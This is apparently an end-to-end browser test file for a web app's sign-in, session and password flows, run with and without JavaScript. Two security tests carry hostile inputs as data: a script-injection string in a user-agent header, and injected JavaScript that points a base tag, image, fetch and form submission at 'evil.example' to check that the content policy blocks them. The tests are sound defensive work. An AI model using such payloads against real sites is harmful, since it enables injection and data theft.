"""Every flow to its end in a browser, with a script and without."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import pytest

from support.pages import PASSWORD, Place, notice, sign_in, submit

SCRIPTS = pytest.mark.parametrize("script", [True, False], ids=["script", "no script"])
Opened = Callable[..., Any]
FIREFOX = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0"


@SCRIPTS
def test_B09_somebody_registers_signs_in_and_out(opened: Opened, place: Place, script: bool) -> None:
    page = opened(java_script_enabled=script)
    page.goto(f"{place.address}/account/sessions")
    assert page.url.endswith("/sign-in?next=%2Faccount%2Fsessions")
    page.click("text=Create an account")
    page.fill("#email", f"new-{script}@example.com")
    page.fill("#password", "short")
    submit(page)
    assert "fewer than 15 characters" in page.inner_text("#password-error")
    assert page.input_value("#email") == f"new-{script}@example.com"
    page.fill("#password", PASSWORD)
    submit(page)
    assert "written to this address" in notice(page)  # to the console, in development
    page.fill("#email", f"new-{script}@example.com")
    page.fill("#password", PASSWORD)
    submit(page)
    assert page.url == f"{place.address}/account/sessions"  # where they wanted to go at first
    assert page.inner_text(".tag") == "this browser"
    page.click("text=Account")
    assert f"new-{script}@example.com" in page.inner_text("dl")
    page.click("header >> text=Sign out")
    assert "signed out" in notice(page)
    page.goto(f"{place.address}/account")
    assert "/sign-in" in page.url


@SCRIPTS
def test_B09_a_wrong_password_is_told_and_the_right_one_let_in(
    opened: Opened, place: Place, script: bool
) -> None:
    page = opened(java_script_enabled=script)
    email = place.person()
    page.goto(f"{place.address}/sign-in")
    page.fill("#email", email)
    page.fill("#password", "not this one at all")
    submit(page)
    assert page.inner_text(".wrong") == "E-mail address or password is wrong."
    assert page.input_value("#email") == email
    assert page.input_value("#password") == ""
    assert page.evaluate("document.activeElement.id") == "password" if script else True
    page.fill("#password", PASSWORD)
    submit(page)
    page.wait_for_url("**/account")


@SCRIPTS
def test_one_browser_ends_the_other(opened: Opened, place: Place, script: bool) -> None:
    email = place.person()
    here, there = opened(java_script_enabled=script), opened(user_agent=FIREFOX)
    sign_in(there, place, email)
    sign_in(here, place, email)
    here.goto(f"{place.address}/account/sessions")
    titles = here.locator(".sessions h2").all_inner_texts()
    assert titles[0].startswith("Chrome on Linux")
    assert "this browser" in titles[0]
    assert titles[1] == "Firefox on Windows"
    if script:
        here.clock.install()
    here.click(".sessions li:nth-child(2) button")
    assert "The session was ended. It is in effect everywhere within" in notice(here)
    assert here.locator(".sessions li").count() == 1
    if script:
        here.clock.run_for(6_000)
        assert "It is in effect everywhere now." in notice(here)
        assert here.locator("[data-count]").is_hidden()
    there.reload()
    assert "/sign-in" in there.url


@SCRIPTS
def test_all_other_sessions_are_ended_at_once(opened: Opened, place: Place, script: bool) -> None:
    email = place.person()
    pages = [opened(java_script_enabled=script) for _ in range(3)]
    for page in pages:
        sign_in(page, place, email)
    pages[0].goto(f"{place.address}/account/sessions")
    pages[0].click("text=End all other sessions")
    assert "All other sessions were ended." in notice(pages[0])
    for page in pages[1:]:
        page.reload()
        assert "/sign-in" in page.url
    pages[0].goto(f"{place.address}/account")
    assert pages[0].url.endswith("/account")


@SCRIPTS
def test_a_password_is_changed(opened: Opened, place: Place, script: bool) -> None:
    email, fresh = place.person(), "a wholly different sentence"
    page, other = opened(java_script_enabled=script), opened()
    sign_in(page, place, email)
    sign_in(other, place, email)
    page.click('a[href="/account/password"]')
    page.fill("#current", "not this one at all")
    page.fill("#password", fresh)
    submit(page)
    assert page.inner_text("#current-error") == "This is not the current password."
    page.fill("#current", PASSWORD)
    page.fill("#password", email)
    submit(page)
    assert "anybody would guess" in page.inner_text("#password-error")
    page.fill("#current", PASSWORD)
    page.fill("#password", fresh)
    submit(page)
    assert "Your password was changed." in notice(page)
    other.reload()
    assert "/sign-in" in other.url
    sign_in(other, place, email, fresh)


@SCRIPTS
def test_somebody_proves_again_that_it_is_them(opened: Opened, place: Place, script: bool) -> None:
    page = opened(java_script_enabled=script)
    sign_in(page, place, place.person())
    page.goto(f"{place.address}/step-up?next=/account/sessions")
    page.fill("#current", "not this one at all")
    submit(page)
    assert page.inner_text("#current-error") == "This is not the current password."
    page.fill("#current", PASSWORD)
    submit(page)
    assert page.url == f"{place.address}/account/sessions"
    assert page.locator(".sessions li").count() == 1


@SCRIPTS
def test_a_token_that_cannot_be_called_back_is_counted_down(
    opened: Opened, jwt_place: Place, script: bool
) -> None:
    page = opened(java_script_enabled=script)
    sign_in(page, jwt_place, jwt_place.person())
    page.goto(f"{jwt_place.address}/account/sessions")
    assert "nothing can call it back" in page.inner_text("main")
    if script:
        page.clock.install()
    page.click("text=Sign out in this browser")
    said = notice(page)
    assert re.search(r"would still be accepted until .* UTC, 1[56] minutes", said) or (
        script and "minutes" in said
    )
    if script:
        page.clock.run_for(60_000)
        assert re.search(r"1[34] minutes \d+ seconds", notice(page))
        page.clock.run_for(15 * 60_000)
        assert "It is in effect everywhere now." in notice(page)
        assert "still be accepted" not in notice(page)


@SCRIPTS
def test_B14_another_language_is_one_press_away_and_stays(opened: Opened, place: Place, script: bool) -> None:
    page = opened(java_script_enabled=script)
    page.goto(f"{place.address}/sign-in?next=/account/sessions")
    page.click("text=العربية")
    assert page.get_attribute("html", "dir") == "rtl"
    assert page.inner_text("h1") == "تسجيل الدخول"
    assert page.input_value('[name="next"]') == "/account/sessions"
    page.goto(f"{place.address}/register")
    assert page.get_attribute("html", "lang") == "ar"
    page.click("text=Deutsch")
    assert page.inner_text("h1") == "Konto anlegen"


def test_B11_two_clicks_are_one_sign_in(opened: Opened, place: Place) -> None:
    for script in (True, False):
        page = opened(java_script_enabled=script)
        email = place.person()
        page.goto(f"{place.address}/sign-in")
        page.fill("#email", email)
        page.fill("#password", PASSWORD)
        page.dblclick(".acts button", no_wait_after=True)
        page.wait_for_url("**/account")
        page.goto(f"{place.address}/account/sessions")
        assert page.locator(".sessions li").count() == 1


def test_B11_the_same_form_in_two_tabs_and_after_going_back(opened: Opened, place: Place) -> None:
    page = opened()
    sign_in(page, place, place.person())
    page.goto(f"{place.address}/account/password")
    tab = page.context.new_page()
    tab.goto(f"{place.address}/account/password")
    for one in (page, tab):
        one.fill("#current", PASSWORD)
        one.fill("#password", "a wholly different sentence")
    submit(page)
    assert "Your password was changed." in notice(page)
    submit(tab)  # by a form of before: the password that it has is no longer right
    assert tab.inner_text("#current-error") == "This is not the current password."
    page.go_back()
    page.fill("#current", "a wholly different sentence")
    page.fill("#password", "and yet another sentence")
    submit(page)
    assert "Your password was changed." in notice(page)


def test_a_form_goes_through_though_the_token_ran_out_while_it_was_read(opened: Opened, place: Place) -> None:
    page = opened()
    sign_in(page, place, place.person())
    page.goto(f"{place.address}/account/password")
    page.context.clear_cookies(name="limen-token")
    page.evaluate("performance.now = () => 3_600_000")  # an hour later, by the browser's own clock
    page.fill("#current", PASSWORD)
    page.fill("#password", "a wholly different sentence")
    with page.expect_request("**/auth/refresh"):
        submit(page)
    page.wait_for_url("**/account")
    assert "Your password was changed." in notice(page)


def test_without_a_script_the_form_is_asked_for_again(opened: Opened, place: Place) -> None:
    page = opened(java_script_enabled=False)
    sign_in(page, place, place.person())
    page.goto(f"{place.address}/account/password")
    page.context.clear_cookies(name="limen-token")
    page.fill("#current", PASSWORD)
    page.fill("#password", "a wholly different sentence")
    submit(page)
    assert page.url == f"{place.address}/account/password"  # renewed on the way
    assert "nothing was changed" in notice(page)


def test_B10_a_password_is_shown_pasted_and_advised_on(opened: Opened, place: Place) -> None:
    page = opened()
    page.goto(f"{place.address}/register")
    field = page.locator("#password")
    assert field.get_attribute("autocomplete") == "new-password"
    assert page.get_attribute("#email", "autocomplete") == "username"
    page.evaluate(
        "(text) => { const data = new DataTransfer(); data.setData('text', text);"
        " document.activeElement.blur(); document.querySelector('#password').focus();"
        " const taken = document.activeElement.dispatchEvent(new ClipboardEvent('paste',"
        " { clipboardData: data, bubbles: true, cancelable: true })); if (!taken) throw 0; }",
        PASSWORD,
    )
    page.click(".reveal")
    assert field.get_attribute("type") == "text"
    assert page.get_attribute(".reveal", "aria-pressed") == "true"
    assert page.evaluate("document.activeElement.id") == "password"
    page.keyboard.type("abc")
    page.wait_for_selector("text=12 more characters")
    page.keyboard.type("abcabcabcabcabc")
    page.wait_for_selector("text=Repeats like")
    assert page.get_attribute(".bar", "data-score") in ("0", "1")
    page.fill("#password", PASSWORD)
    page.wait_for_selector('.bar[data-score="4"]')
    page.click(".reveal")
    assert field.get_attribute("type") == "password"


def test_W21_a_script_in_what_others_wrote_is_text(opened: Opened, place: Place) -> None:
    email = place.person()
    page, other = opened(), opened(user_agent='"><script>alert(1)</script><img src=x onerror=alert(1)>')
    page.on("dialog", lambda _: pytest.fail("a script ran"))
    sign_in(other, place, email)
    sign_in(page, place, email)
    page.goto(f"{place.address}/account/sessions")
    assert page.locator(".sessions h2").last.inner_text() == "An unknown device"
    assert page.locator("script").count() == 1
    assert page.locator("main img").count() == 0


def test_W19_what_is_injected_all_the_same_does_not_run(chromium: Any, place: Place) -> None:
    page = chromium.new_page()
    page.goto(f"{place.address}/sign-in")
    blocked = page.evaluate(
        """async () => {
          const seen = [];
          addEventListener("securitypolicyviolation", (e) => seen.push(e.effectiveDirective));
          const script = document.createElement("script");
          try { script.textContent = "window.ran = 1"; } catch { seen.push("trusted types"); }
          document.body.append(script);
          try { setTimeout("window.ran = 1", 0); } catch { seen.push("trusted types"); }
          const base = document.createElement("base");
          base.href = "https://evil.example/";
          document.head.append(base);
          const image = new Image();
          image.src = "https://evil.example/x.png";
          await fetch("https://evil.example/").catch(() => seen.push("fetch"));
          document.querySelector("form").action = "https://evil.example/";
          document.querySelector("form").noValidate = true;
          document.querySelector("form").submit();
          await new Promise((done) => setTimeout(done, 100));
          return [seen, window.ran ?? null, document.baseURI];
        }"""
    )
    seen, ran, base = blocked
    assert ran is None
    assert base.startswith(place.address)
    assert {"trusted types", "fetch"} <= set(seen)
    assert any(one.startswith("form-action") for one in seen)
    assert any(one.startswith("base-uri") for one in seen)
    assert page.url == f"{place.address}/sign-in"
    page.context.close()


def test_S11_the_browser_keeps_the_cookies_as_they_must_be(opened: Opened, place: Place) -> None:
    page = opened()
    sign_in(page, place, place.person())
    kept = {
        one["name"]: one for one in page.context.cookies([place.address, f"{place.address}/auth/refresh"])
    }
    assert {"limen-token", "limen-refresh", "limen-refreshes", "limen-device"} <= kept.keys()
    for name, one in kept.items():
        assert one["httpOnly"] is True, name
        assert one["sameSite"] == "Lax"
        assert one["path"] == ("/auth/refresh" if name == "limen-refresh" else "/")
    assert page.evaluate("document.cookie") == ""
    page.click("header >> text=Sign out")
    left = {one["name"] for one in page.context.cookies([place.address, f"{place.address}/auth/refresh"])}
    assert left <= {"limen-device", "limen-notice"}
